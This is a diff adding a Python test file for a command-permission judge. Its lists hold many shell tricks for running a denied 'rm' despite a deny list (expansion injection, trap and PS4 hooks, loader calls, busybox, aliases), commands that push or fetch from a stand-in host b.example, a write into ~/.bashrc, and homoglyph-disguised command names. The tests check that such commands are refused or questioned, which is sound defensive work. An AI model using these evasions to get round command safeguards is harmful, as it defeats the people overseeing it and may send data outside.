@@ -1,0 +1,154 @@
+"""What cannot be known of a command: refused beside a deny list, and bounded in what is looked up."""
+
+from __future__ import annotations
+
+from collections import Counter
+
+import pytest
+
+from daiku.core.commands.judge import MOST_WORDS, CommandRules, judge
+from tests.cases import for_each
+
+
+def answer(command: str, *, deny: tuple[str, ...] = (), allow: tuple[str, ...] = ()) -> str:
+    rules = CommandRules(resolve=str, deny=deny, allow=allow, roots=("/proj",), home="/home/u")
+    return judge(command, rules).answer
+
+
+RUNS_RM = [
+    "x='$(rm V)'; echo ${x@P}",
+    "echo ${x:=`rm V`}",
+    "/lib64/ld-linux-x86-64.so.2 /bin/rm V",
+    "sg root -c 'rm V'",
+    "printf 'all:\\n\\trm V' | make -f -",
+    "complete -C 'rm V' z; compgen -C 'rm V'",
+    "let 'a[$(rm V)]=1'",
+    "PS4='$(rm V)'; set -x; true",
+    "trap 'rm V' EXIT",
+    "mapfile -C 'rm V' -c 1 < f",
+    "echo $((a[$(rm V)]))",
+    "echo $[a[0]]",
+    "((a[$x]=1))",
+    "[[ -v $x ]]",
+    "test $x -eq 0",
+    "declare -n y=$x",
+    "./clean.sh",
+    "tools/clean V",
+    "/proj/clean V",
+    "/bin/r? V",
+    "cp /bin/rm ./x && ./x V",
+    "alias x='rm V'",
+    "busybox rm V",
+    "unshare -r rm V",
+    "chroot / rm V",
+    "script -qc 'rm V' /dev/null",
+    "coproc rm V",
+    "printf x | make -f /dev/stdin",
+    "cat <<E\n${x@P}\nE",
+    "echo " + "x " * 300,
+]
+STAYS_ALLOWED = [
+    "ls -la", "git commit -m 'rm the old file'", "echo rm", "grep -rn rm src", "npm test", "python -m pytest -q", "ls $HOME",
+    "echo ${HOME}", "rg '\\brm\\b'", "cat rm.txt",
+]  # fmt: skip
+
+
+@for_each("command", RUNS_RM)
+def test_a_denied_program_does_not_run_by_another_way(command: str) -> None:
+    assert answer(command, deny=("rm",)) == "deny"
+
+
+@for_each("command", STAYS_ALLOWED)
+def test_ordinary_commands_are_not_denied(command: str) -> None:
+    assert answer(command, deny=("rm",)) != "deny"
+
+
+ELSEWHERE = [
+    ("curl -s http://a.example/ok", "curl -s http://a.example/ok http://b.example/more"),
+    ("curl -s http://a.example/ok", "curl -s http://a.example/ok -x b.example"),
+    ("curl", "curl http://b.example"),
+    ("npm install", "npm install --registry=http://b.example"),
+    ("npm install", "npm install --registry b.example"),
+    ("npm install", "npm install git+https://b.example/x"),
+    ("npm install", "npm install git@b.example:x/y"),
+    ("pip install", "pip install -i http://b.example x"),
+    ("pip install", "pip install --extra-index-url=b.example x"),
+    ("git push", "git push https://b.example/x main"),
+    ("git push", "git push git@b.example:x/y main"),
+    ("git fetch", "git fetch ssh://b.example/x"),
+    ("make deploy", "make deploy URL=http://b.example"),
+    ("npm install", "npm install > /tmp/x"),
+    ("npm test", "npm test >> ~/.bashrc"),
+]
+HERE = [
+    ("curl -s http://a.example/ok", "curl -s http://a.example/ok"),
+    ("npm install", "npm install left-pad@1.0.0"),
+    ("pip install", "pip install -r requirements.txt"),
+    ("git push", "git push origin main"),
+    ("npm test", "npm test -- --watch"),
+    ("make", "make deploy"),
+]
+
+
+@for_each(("rule", "command"), ELSEWHERE)
+def test_an_allow_rule_does_not_reach_another_address(rule: str, command: str) -> None:
+    assert answer(command, allow=(rule,)) == "ask"
+
+
+@for_each(("rule", "command"), HERE)
+def test_an_allow_rule_holds_for_other_arguments(rule: str, command: str) -> None:
+    assert answer(command, allow=(rule,)) == "allow"
+
+
+@pytest.mark.parametrize("command", ["echo", "cat", "frobnicate", "cp"])
+def test_lookups_are_bounded_by_the_words(command: str) -> None:
+    calls: Counter[str] = Counter()
+
+    def resolve(path: str) -> str:
+        calls["resolve"] += 1
+        return path
+
+    def closed(path: str) -> bool:
+        calls["closed"] += 1
+        return False
+
+    rules = CommandRules(resolve=resolve, closed=closed, roots=("/proj",))
+    same = judge(f"{command} " + "x " * 4000, rules)
+    assert same.answer in ("ask", "allow")
+    assert calls.total() <= 10
+    calls.clear()
+    many = judge(f"{command} " + " ".join(f"w{n}" for n in range(2000)), rules)
+    assert (many.answer, many.secret, many.key, calls.total()) == ("ask", True, "", 0)
+    judge(f"{command} " + " ".join(f"w{n}" for n in range(MOST_WORDS - 1)), rules)
+    assert calls.total() <= 3 * MOST_WORDS
+
+
+MARKED = [
+    "сurl http://a.example",
+    "gіt push",
+    "curl http://аpple.example/x",
+    "nрm install",
+    "рython x.py",
+    "./sсripts/x.sh",
+    "ｇｉｔ push",
+    "frob ΑBC",
+]
+PLAIN = [
+    "ls 日本語",
+    "echo Привет мир",
+    "git commit -m 'Grüße, naïve café'",
+    "cat 設定file.txt",
+    "ls -la",
+    "echo 'テストtest'",
+]
+
+
+@for_each("command", MARKED)
+def test_lookalike_letters_are_named(command: str) -> None:
+    why = judge(command, CommandRules(resolve=str)).why
+    assert "looks like" in why
+
+
+@for_each("command", PLAIN)
+def test_words_of_one_script_are_not_marked(command: str) -> None:
+    assert "looks like" not in judge(command, CommandRules(resolve=str)).why
